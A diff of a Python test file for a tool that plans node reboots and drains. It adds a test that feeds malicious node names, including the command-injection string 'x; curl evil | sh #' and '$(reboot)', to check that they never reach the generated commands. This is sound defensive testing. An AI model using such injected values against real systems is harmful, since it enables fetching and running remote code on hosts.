@@ -30,6 +30,15 @@ def test_a_reboot_is_advised_and_never_a_step(tmp_path: Path) -> None:
     assert "not known" in advice.why, "nothing is counted in a recorded tree"
 
 
+@pytest.mark.parametrize("name", ["x; curl evil | sh #", "$(reboot)", "a b", "-rf", ""])
+def test_what_can_be_no_name_of_a_node_is_in_no_command(tmp_path: Path, name: str) -> None:
+    host = machine(tmp_path, f"kubelet\0--hostname-override={name}\0")
+    assert node_name(host) == "node-17"
+    odd = machine(tmp_path / "odd", "kubelet\0", **{"proc/sys/kernel/hostname": f"{name}\n"})
+    assert node_name(odd) == ""
+    assert [advice.commands for advice in plan_reboot(odd, "").by_hand] == [("systemctl reboot",)]
+
+
 def test_a_node_is_drained_before_and_comes_back_after(tmp_path: Path) -> None:
     host = machine(tmp_path, "kubelet\0--config\0/etc/x\0")
     advice, reserve = plan_reboot(host, "").by_hand
@@ -45,6 +54,7 @@ def test_a_node_is_drained_before_and_comes_back_after(tmp_path: Path) -> None:
         "kubectl taint node node-17 necroscope.dev/repro=:NoSchedule",
         "kubectl label node node-17 necroscope.dev/pool=repro",
         "kubectl taint node node-17 necroscope.dev/repro-  # to give it back",
+        "kubectl label node node-17 necroscope.dev/pool-",
     )
 
 
